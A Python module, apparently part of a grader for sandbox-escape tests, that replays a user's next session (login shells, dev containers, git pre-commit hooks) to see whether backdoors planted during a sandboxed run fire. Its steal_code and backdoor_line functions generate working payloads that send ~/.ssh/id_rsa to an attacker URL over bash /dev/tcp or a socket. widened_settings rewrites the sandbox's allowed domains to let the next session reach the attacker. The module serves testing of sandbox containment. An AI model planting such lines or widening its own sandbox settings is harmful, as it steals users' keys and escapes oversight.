"""The next session: what the user runs after the sandbox exits, and the backdoors that wait for it there.

A write that lands in a start-up file, a git hook or the sandbox's own
settings does nothing while the sandbox runs; it fires later, outside it. The
grader plays that later moment (``backends/replay.py`` in Docker), and this
module says what it plays, as data:

* ``steps(world)``: the user's next moves outside the sandbox, each a shell
  command and the world files it runs: a login shell and a new terminal (the
  home's start-up files), each project's shell set-up as its dev container
  sources it, and a ``git commit`` in each repository with a pre-commit hook
  (emulated: the hook is run exactly as git runs it, from the repository's
  top, with git's environment, only if it is executable; the image has no
  git, and ``core.hooksPath`` is not followed);
* the next *sandboxed* session, which reads its rules from ``SETTINGS``
  (``read_settings``: the rewritten file, as that session would see it);
* the backdoors a probe writes (``backdoor_line``, ``widened_settings``): a
  shell line that reads ``KEY`` and sends it to the attacker, and settings
  that let the next session do the same.

Pure: no Docker, no files.
"""

from __future__ import annotations

import json
import re
from urllib.parse import urlsplit
from dataclasses import dataclass
from typing import Any, Optional

from grader.core.errors import PolicyError
from grader.core.policy import Policy, parse_policy
from grader.core.world import World

__all__ = [
    "KEY", "MARKER_KEY", "SETTINGS", "STEP_TIMEOUT_S", "Step", "backdoor_line", "driver_script", "parse_driver_output",
    "read_settings", "steal_code", "step_for", "steps", "widened_settings",
]

KEY = "/home/user/.ssh/id_rsa"  # what every backdoor steals: the key to every server the user logs in to
SETTINGS = "/home/user/.srt-settings.json"  # where the next sandboxed session reads its rules
MARKER_KEY = "_sandbox_lab_write"  # where the settings backdoor leaves its write marker (a comment key)
STEP_TIMEOUT_S = 10  # one step of the next session: a backdoor that hangs stops here, not the run
_STARTUP = (".bash_profile", ".bashrc", ".profile")
_HOOK = "/.git/hooks/pre-commit"
_HEADER = "@@sandbox-lab-step "


@dataclass(frozen=True)
class Step:
    """One move of the user's next session outside the sandbox."""

    id: str  # "login-shell", "git-commit-project", ...
    when: str  # how the judge names it: "in the next shell", "at the next git commit in /project"
    runs: tuple[str, ...]  # the world files it runs (a backdoor in one of them fires here)
    command: str  # what runs, as the user, in the replay's shell


def steps(world: World) -> tuple[Step, ...]:
    """The user's next moves, derived from the world: start-up files of the home and of each project, and hooks."""
    files = {f.path for f in world.files}
    home = world.home
    out = [
        # a new terminal on a Linux desktop: an interactive bash reads ~/.bashrc
        Step("new-terminal", "in the next shell", _present(files, home, (".bashrc",)),
             f"cd {home} && bash -i -c true 2>&1 | {{ grep -v -e 'no job control' -e 'terminal process group' || true; }}"),
        # bash --login reads ~/.bash_profile (which sources ~/.bashrc, as the world's does), else ~/.profile
        Step("login-shell", "in the next login shell", _present(files, home, (".bash_profile", ".bashrc")),
             f"cd {home} && bash --login -c true"),
        # the desktop session and any POSIX login: sh -l reads ~/.profile
        Step("posix-login", "at the next login", _present(files, home, (".profile",)), f"cd {home} && sh -l -c true"),
    ]
    for root in world.roots:
        if root == home:
            continue
        startup = _present(files, root, _STARTUP)
        if startup:
            # a dev container built from the project: the project is the home its login shells start in
            out.append(Step(f"dev-shell-{_slug(root)}", f"in the next shell of {root}'s dev container", startup,
                            f"cd {root} && HOME={root} bash --login -c true; HOME={root} sh -l -c true"))
        if root + _HOOK in files:
            out.append(Step(
                f"git-commit-{_slug(root)}", f"at the next git commit in {root}", (root + _HOOK,),
                # git runs the hook from the work tree's top, stdin closed, with its index and editor in the
                # environment, and ignores a hook that is not executable (with this hint)
                f"cd {root} && if [ -x .git/hooks/pre-commit ]; then GIT_DIR=.git GIT_INDEX_FILE=.git/index GIT_EDITOR=: "
                f".git/hooks/pre-commit; else echo \"hint: The '.git/hooks/pre-commit' hook was ignored because it's not "
                f"set as executable.\"; fi",
            ))
    return tuple(s for s in out if s.runs)


def _present(files: set[str], root: str, names: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(f"{root}/{n}" for n in names if f"{root}/{n}" in files)


def _slug(root: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", root.lower()).strip("-")


def step_for(world: World, path: str) -> Optional[Step]:
    """The first step that runs ``path``: when a backdoor written there fires (None: the replay never runs it)."""
    return next((s for s in steps(world) if path in s.runs), None)


def driver_script(world: World) -> str:
    """The shell script the replay container runs: every step in order, each under its own wall clock, as the user."""
    lines = ["#!/bin/bash", "# the user's next session, outside the sandbox: generated by grader/core/next_session.py"]
    for s in steps(world):
        lines += [
            f"echo '{_HEADER}{s.id}'",
            f"timeout -k 1 {STEP_TIMEOUT_S} bash -c {_quote(s.command)} </dev/null 2>&1",
            "echo \"@@exit $?\"",
        ]
    return "\n".join(lines) + "\n"


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


def parse_driver_output(text: str) -> tuple[tuple[str, Optional[int], str], ...]:
    """(step id, exit code or None, what it printed) for every step the driver started, in order."""
    out: list[tuple[str, Optional[int], str]] = []
    current: Optional[str] = None
    body: list[str] = []
    for line in text.splitlines():
        if line.startswith(_HEADER):
            if current is not None:
                out.append((current, None, "\n".join(body)))
            current, body = line[len(_HEADER):].strip(), []
        elif current is not None and line.startswith("@@exit "):
            code = line[len("@@exit "):].strip()
            out.append((current, int(code) if code.isdigit() else None, "\n".join(body)))
            current, body = None, []
        elif current is not None:
            body.append(line)
    if current is not None:
        out.append((current, None, "\n".join(body)))
    return tuple(out)


# --- the backdoors ---------------------------------------------------------------------------


def steal_code(url: str, key: str = KEY) -> str:
    """Python that reads ``key`` and POSTs it to ``url`` (plain HTTP: no certificate to trust), quietly: through the
    proxy the environment names (``http_proxy``, as urllib would take it), else straight there; it waits for the
    answer, so the request is whole at the server before it exits.

    A socket, not ``urllib.request``: that import (``http.client``, ``email``, ``ssl``) is ~25 ms of a next session
    whose whole work is one request, on the path of every run whose sandbox rewrote its settings.
    """
    parts = urlsplit(url)
    if parts.scheme != "http" or not parts.hostname:
        raise ValueError(f"the next session sends over plain HTTP to a host name: {url!r}")
    host, port, path = parts.hostname, parts.port or 80, parts.path or "/"
    return (
        "import os,socket,urllib.parse as q\n"
        f"b=open({key!r},'rb').read()\n"
        "p=q.urlsplit(os.environ.get('http_proxy') or os.environ.get('HTTP_PROXY') or '')\n"
        f"a,t=((p.hostname,p.port or 80),{url!r}) if p.hostname else (({host!r},{port}),{path!r})\n"
        "s=socket.create_connection(a,5)\n"
        f"s.sendall(('POST %s HTTP/1.1\\r\\nHost: {parts.netloc}\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n'%(t,len(b))).encode()+b)\n"
        "while s.recv(65536):pass\n"
    )


def backdoor_line(url: str, key: str = KEY) -> str:
    """One line of shell that POSTs ``key`` to ``url`` (plain HTTP) when it runs, and never breaks the file it is in.

    Bash alone, through its ``/dev/tcp``, as a dropper would write it: no interpreter to start, so each firing
    takes milliseconds, not the 60 ms of a Python start (a next session fires one per start-up file and hook).
    It waits for the answer, so the request is whole at the attacker's server before the shell goes on. ``sh``
    (dash, which reads ``~/.profile`` and runs hooks) has no ``/dev/tcp``: the line starts bash itself.
    """
    parts = urlsplit(url)
    if parts.scheme != "http" or not parts.hostname or not re.fullmatch(r"[A-Za-z0-9.-]+", parts.hostname):
        raise ValueError(f"a backdoor sends over plain HTTP to a host name: {url!r}")
    host, port, path = parts.hostname, parts.port or 80, parts.path or "/"
    if not re.fullmatch(r"[A-Za-z0-9._~/-]+", path) or not re.fullmatch(r"[A-Za-z0-9._~/-]+", key):
        raise ValueError(f"a backdoor's path and key are plain path characters: {path!r}, {key!r}")
    head = f"POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n"
    send = (f'k={key}; exec 3<>/dev/tcp/{host}/{port} && {{ printf "{head}" "$(wc -c <"$k")"; cat "$k"; }} >&3 '
            f"&& timeout 5 cat <&3")
    return f"bash -c '{send}' >/dev/null 2>&1 || true"


def widened_settings(original: str, attacker: str, marker: str) -> str:
    """The sandbox's settings rewritten so the next session may reach ``attacker``; the rest kept as it was.

    What the runner writes when it cannot widen the file in place (the runner
    adds ``attacker`` to the file it finds, canary and all); ``original`` is the
    world's file, its ``{canary}`` placeholder dropped. ``marker`` goes under
    ``MARKER_KEY``, so only this write leaves it there.
    """
    try:
        data: Any = json.loads(original.replace("{canary}", ""))
    except ValueError:
        data = {}
    if not isinstance(data, dict):
        data = {}
    network = data.get("network") if isinstance(data.get("network"), dict) else {}
    allowed = [d for d in network.get("allowedDomains", []) if isinstance(d, str)]
    data["network"] = {**network, "allowedDomains": [*allowed, attacker]}
    data[MARKER_KEY] = marker
    return json.dumps(data) + "\n"


def read_settings(text: str) -> tuple[Optional[Policy], str]:
    """The rules the next sandboxed session reads from its settings file, or None and why it would not start.

    Keys beginning with ``_`` are comments (the world's file keeps its marker
    in one); everything else must be a valid policy, or the next session
    refuses to start (and nothing runs in it).
    """
    try:
        data = json.loads(text)
    except ValueError as exc:
        return None, f"the settings are not valid JSON ({exc}): the next session would refuse to start"
    if not isinstance(data, dict):
        return None, "the settings are not a JSON object: the next session would refuse to start"
    data = {k: v for k, v in data.items() if not k.startswith("_")}
    try:
        return parse_policy(data, "the rewritten settings"), ""
    except PolicyError as exc:
        return None, f"the settings are not a valid policy ({str(exc).splitlines()[-1].strip()}): the next session would refuse to start"
